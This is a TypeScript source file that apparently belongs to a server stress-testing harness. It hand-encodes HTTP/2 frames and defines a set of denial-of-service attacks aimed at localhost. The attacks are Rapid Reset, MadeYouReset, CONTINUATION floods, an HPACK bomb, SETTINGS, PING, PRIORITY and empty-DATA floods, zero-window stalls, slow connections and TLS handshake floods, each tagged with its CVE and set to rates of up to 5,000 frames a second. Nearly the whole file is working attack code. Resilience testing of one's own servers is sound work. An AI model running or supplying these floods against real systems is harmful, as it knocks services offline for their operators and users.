import type { Socket } from 'node:net'
import type { Attack, Attacker } from './attack.ts'

const FRAME = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  window: 8,
  more: 9,
} as const
const END_STREAM = 1
const END_HEADERS = 4

/** RFC 9113, section 4.1. */
function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const bytes = Buffer.alloc(9 + payload.length)
  bytes.writeUIntBE(payload.length, 0, 3)
  bytes[3] = type
  bytes[4] = flags
  bytes.writeUInt32BE(stream, 5)
  payload.copy(bytes, 9)
  return bytes
}

function number32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

/** RFC 7541, section 6.2.2: literals, never indexed, shorter than 127 bytes. */
function fields(...list: readonly (readonly [string, string])[]): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)])
  return Buffer.concat(list.flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]))
}

const request = (path: string, method = 'GET'): Buffer =>
  fields([':method', method], [':scheme', 'https'], [':authority', 'localhost'], [':path', path])

const SETTINGS = (...pairs: readonly (readonly [number, number])[]): Buffer =>
  frame(
    FRAME.settings,
    0,
    0,
    Buffer.concat(pairs.map(([id, value]) => Buffer.concat([Buffer.from([0, id]), number32(value)]))),
  )

const HELLO = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), SETTINGS()])
const ONE = number32(1)
const MORE = fields(...Array.from({ length: 120 }, () => ['x-more', 'a'.repeat(120)] as const))

/** A connection with the number of its next stream. */
interface Lane {
  readonly socket: Socket
  stream: number
}

/** Keeps `connections` of HTTP/2 and calls `act` on them in turn; what the server says to it is counted by frame. */
async function flood(
  attacker: Attacker,
  connections: number,
  perSecond: number,
  act: (lane: Lane, stream: number) => Buffer,
  hello: Buffer = HELLO,
): Promise<void> {
  const lanes = new Map<Socket, Lane>()
  await attacker.hold(connections, 50, () => {
    const socket = attacker.open(hello)
    let rest = Buffer.alloc(0)
    socket.on('data', (chunk: Buffer) => {
      rest = Buffer.concat([rest, chunk])
      while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
        const length = rest.readUIntBE(0, 3)
        if (rest[3] === FRAME.headers) attacker.count('answers')
        if (rest[3] === FRAME.goaway) attacker.count(`goaway ${rest.readUInt32BE(13)}`)
        rest = rest.subarray(9 + length)
      }
    })
    socket.once('secureConnect', () => lanes.set(socket, { socket, stream: 1 }))
    socket.once('close', () => lanes.delete(socket))
    return socket
  })
  let turn = 0
  attacker.every(perSecond, () => {
    const lane = [...lanes.values()][turn++ % Math.max(1, lanes.size)]
    if (!lane?.socket.writable || lane.socket.writableLength > 256 * 1024) return
    lane.socket.write(act(lane, lane.stream))
    lane.stream += 2
    attacker.count('sent')
  })
}

const OPEN = END_HEADERS
const WHOLE = END_HEADERS | END_STREAM

export const HTTP2: Readonly<Record<string, Attack>> = {
  'h2-rapid-reset': {
    what: '5,000 streams a second on 10 connections, each reset at once (CVE-2023-44487)',
    http2: true,
    start: (attacker) =>
      flood(attacker, 10, 5_000, (_lane, stream) =>
        Buffer.concat([
          frame(FRAME.headers, WHOLE, stream, request('/assets/big.js')),
          frame(FRAME.reset, 0, stream, number32(8)),
        ]),
      ),
  },
  'h2-made-you-reset': {
    what: '5,000 streams a second on 10 connections, each made to be reset by the server (CVE-2025-8671)',
    http2: true,
    start: (attacker) =>
      flood(attacker, 10, 5_000, (_lane, stream) =>
        Buffer.concat([
          frame(FRAME.headers, WHOLE, stream, request('/assets/big.js')),
          frame(FRAME.window, 0, stream, number32(0)),
        ]),
      ),
  },
  'h2-continuation': {
    what: '500 CONTINUATION frames of 16 KiB a second on 10 connections, without an end (CVE-2024-27983, VU#421644)',
    http2: true,
    start: (attacker) =>
      flood(attacker, 10, 500, (_lane, stream) => {
        if (stream === 1) return frame(FRAME.headers, END_STREAM, 1, request('/queue'))
        return frame(FRAME.more, 0, 1, MORE)
      }),
  },
  'h2-continuation-empty': {
    what: '5,000 empty CONTINUATION frames a second on 10 connections, without an end',
    http2: true,
    start: (attacker) =>
      flood(attacker, 10, 5_000, (_lane, stream) =>
        stream === 1 ? frame(FRAME.headers, END_STREAM, 1, request('/queue')) : frame(FRAME.more, 0, 1),
      ),
  },
  'h2-hpack-bomb': {
    what: '200 heads a second on 10 connections that name one field of 4,000 bytes 8,000 times (CVE-2016-6581)',
    http2: true,
    start(attacker) {
      const value = Buffer.concat([Buffer.from([0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 0x61)]) // 127 + 33 + 30 * 128 = 4,000
      const named = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('a'), value])
      return flood(attacker, 10, 200, (_lane, stream) =>
        frame(FRAME.headers, WHOLE, stream, Buffer.concat([request('/queue'), named, Buffer.alloc(8_000, 0xbe)])),
      )
    },
  },
  'h2-settings': {
    what: '5,000 SETTINGS frames a second on 10 connections, answers read (CVE-2019-9515)',
    http2: true,
    start: (attacker) => flood(attacker, 10, 5_000, () => SETTINGS([3, 100], [4, 65_535])),
  },
  'h2-ping': {
    what: '5,000 PINGs a second on 10 connections, answers read (CVE-2019-9512)',
    http2: true,
    start: (attacker) => flood(attacker, 10, 5_000, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  },
  'h2-ping-deaf': {
    what: '5,000 PINGs a second on 10 connections, answers never read',
    http2: true,
    async start(attacker) {
      const held = await attacker.hold(10, 50, () => attacker.open(HELLO).pause())
      const ping = frame(FRAME.ping, 0, 0, Buffer.alloc(8))
      attacker.every(500, () => {
        for (const socket of held) if (socket.writableLength < 256 * 1024) socket.write(ping)
      })
    },
  },
  'h2-empty-data': {
    what: '5,000 empty DATA frames a second on 10 connections (CVE-2019-9518)',
    http2: true,
    start: (attacker) =>
      flood(attacker, 10, 5_000, (_lane, stream) =>
        stream === 1 ? frame(FRAME.headers, OPEN, 1, request('/auth_login.html', 'POST')) : frame(FRAME.data, 0, 1),
      ),
  },
  'h2-priority': {
    what: '5,000 PRIORITY frames a second on 10 connections (CVE-2019-9513)',
    http2: true,
    start: (attacker) =>
      flood(attacker, 10, 5_000, (_lane, stream) => frame(FRAME.priority, 0, stream, Buffer.from([0, 0, 0, 0, 16]))),
  },
  'h2-window-0': {
    what: '10 connections with 100 downloads of 64 MiB each and a window of 0 (CVE-2019-9517)',
    http2: true,
    start: (attacker) =>
      flood(
        attacker,
        10,
        500,
        (_lane, stream) =>
          stream < 200
            ? frame(FRAME.headers, WHOLE, stream, request('/assets/big.js'))
            : frame(FRAME.window, 0, 0, ONE),
        Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), SETTINGS([4, 0])]),
      ),
  },
  'h2-slow-head': {
    what: '500 connections of HTTP/2 that say hello and nothing more, renewed when they are closed',
    http2: true,
    start: async (attacker) => void (await attacker.hold(500, 50, () => attacker.open(HELLO))),
  },
  handshakes: {
    what: '100 TLS handshakes a second, closed at once',
    http2: true,
    start(attacker) {
      attacker.every(100, () => {
        const socket = attacker.open()
        socket.once('secureConnect', () => socket.destroy())
      })
    },
  },
}
